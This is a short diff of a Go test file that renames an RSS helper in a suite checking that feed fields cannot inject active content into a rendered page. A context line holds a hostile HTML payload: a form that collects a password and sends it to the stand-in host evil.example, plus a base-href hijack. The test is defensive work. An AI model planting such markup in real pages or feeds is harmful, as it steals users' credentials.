@@ -29,8 +29,8 @@ var payloads = []string{
 	`<form action="https://evil.example"><input name=password></form><base href="https://evil.example/">`,
 }
 
-// hostileFeed is an RSS document that has a payload in every field.
-func hostileFeed(n int) string {
+// hostileDocument is an RSS document that has a payload in every field.
+func hostileDocument(n int) string {
 	p := html.EscapeString(payloads[n])
 	return fmt.Sprintf(`<?xml version="1.0"?>
 <rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/">
@@ -53,7 +53,7 @@ func TestNoFieldOfASourceRunsOnAPage(t *testing.T) {
 		_, _ = fmt.Sscanf(r.URL.Path, "/%d", &n)
 		w.Header().Set("Content-Type", "application/rss+xml")
 		w.Header().Set("ETag", `"`+payloads[n][:1]+`"`)
-		_, _ = fmt.Fprint(w, hostileFeed(n))
+		_, _ = fmt.Fprint(w, hostileDocument(n))
 	}))
 	t.Cleanup(site.Close)
 	var file strings.Builder
